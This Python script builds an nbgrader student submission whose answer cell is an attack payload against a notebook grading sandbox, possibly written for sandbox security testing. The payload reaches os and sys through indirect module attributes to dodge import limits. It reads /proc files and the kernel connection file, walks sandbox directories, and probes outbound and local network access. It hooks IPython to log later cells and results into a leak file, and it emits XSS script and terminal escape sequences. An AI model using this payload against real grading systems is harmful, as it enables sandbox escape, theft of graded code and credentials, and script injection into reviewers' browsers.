#!/usr/bin/env python3
# usage: python3 THIS.py COURSE_DIR STUDENT_ID   (run nbgrader generate_assignment first)
"""helpers (inlined into replay scripts)"""
import nbformat, os, sys, re, glob, shutil

def released(course, assignment):
    for d in (f"{course}/release/gradbook-autograd/{assignment}", f"{course}/release/{assignment}"):
        nbs = glob.glob(d + "/*.ipynb")
        if nbs:
            return nbs[0]
    raise SystemExit("run nbgrader generate_assignment first")

def solutions(course, assignment):
    src = glob.glob(f"{course}/source/{assignment}/*.ipynb")[0]
    nb = nbformat.read(src, 4)
    out = {}
    for c in nb.cells:
        m = c.metadata.get("nbgrader", {})
        if m.get("solution"):
            s = re.sub(r"[ \t]*### (BEGIN|END) SOLUTION\n?", "", c.source)
            out[m["grade_id"]] = s
    return out

def build(course, assignment, student, answers=None, honest=True, mutate=None):
    """answers: grade_id -> source. honest: fill the rest with the instructor's solutions."""
    rel = released(course, assignment)
    nb = nbformat.read(rel, 4)
    sol = solutions(course, assignment) if honest else {}
    answers = answers or {}
    for c in nb.cells:
        gid = c.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            c.source = answers[gid]
        elif gid in sol:
            c.source = sol[gid]
    if mutate:
        nb = mutate(nb) or nb
    d = f"{course}/submitted/{student}/{assignment}"
    os.makedirs(d, exist_ok=True)
    path = f"{d}/{os.path.basename(rel)}"
    import json
    with open(path, 'w') as f:
        json.dump(nb, f, ensure_ascii=True, indent=1)
    return path


# Recon from inside the kernel: uid, mounts, limits, /proc, network, connection file; logs later cells into the sockets folder.
SRC = r'''
import numpy as np
import gradbook as torch
three_calls = 12.0
def O():
    return np._core.records.os
def S():
    return torch._typing.sys
def rd(p, n=20000):
    try:
        fd = O().open(p, 0)
        b = O().read(fd, n)
        O().close(fd)
        return b.decode("utf-8", "replace")
    except Exception as e:
        return "ERR %r" % (e,)
def walk(p, d=0):
    if d > 4: return
    try:
        names = sorted(O().listdir(p))
    except Exception as e:
        print("  " * d, p, "ERR", e); return
    for n in names[:60]:
        q = p + "/" + n
        st = O().lstat(q)
        print("  " * d, q, oct(st.st_mode), st.st_uid, st.st_size)
        if (st.st_mode & 0o170000) == 0o040000:
            walk(q, d + 1)
print("mountinfo", rd("/proc/self/mountinfo"))
print("status", rd("/proc/self/status"))
print("limits", rd("/proc/self/limits"))
print("cgroup", rd("/proc/self/cgroup"))
print("p1", rd("/proc/1/cmdline").replace("\0", " "), rd("/proc/1/status")[:300])
walk("/tmp")
walk("/run/gradbook-sandbox", 3)
print("conn", rd(S().argv[2]))
sk = S().modules["socket"]
for addr in [("1.1.1.1", 80), ("127.0.0.1", 22), ("10.0.0.1", 80)]:
    s = sk.socket()
    s.settimeout(2)
    try:
        s.connect(addr); print("NET connected", addr)
    except Exception as e:
        print("NET", addr, e)
print("ifaces", rd("/proc/net/dev"))
ip = S().modules["IPython"].get_ipython()
rt = O().environ["JUPYTER_RUNTIME_DIR"]
log = []
def pre(info):
    fd = O().open(rt + "/leak.txt", 0o2101, 0o644)
    O().write(fd, ("CELL<<<" + info.raw_cell + ">>>\n").encode())
    O().close(fd)
def post(result):
    fd = O().open(rt + "/leak.txt", 0o2101, 0o644)
    O().write(fd, ("RESULT<<<" + repr(result.result)[:2000] + repr(result.error_in_exec) + ">>>\n").encode())
    O().close(fd)
ip.events.register("pre_run_cell", pre)
ip.events.register("post_run_cell", post)
S().modules["IPython"].display.display(S().modules["IPython"].display.HTML("<b id=xss>bold</b><script>document.title='XSS-RAN'</script><img src=x onerror=\"document.body.innerHTML='XSS'\">"))
print("\x1b[31mRED\x1b[0m \x1b]0;TITLE\x07 bell")
'''
def attack(course, student):
    build(course, '01_accumulation', student, {'three_calls_answer': SRC})


if __name__ == '__main__':
    attack(sys.argv[1], sys.argv[2])
    print('built', sys.argv[2])
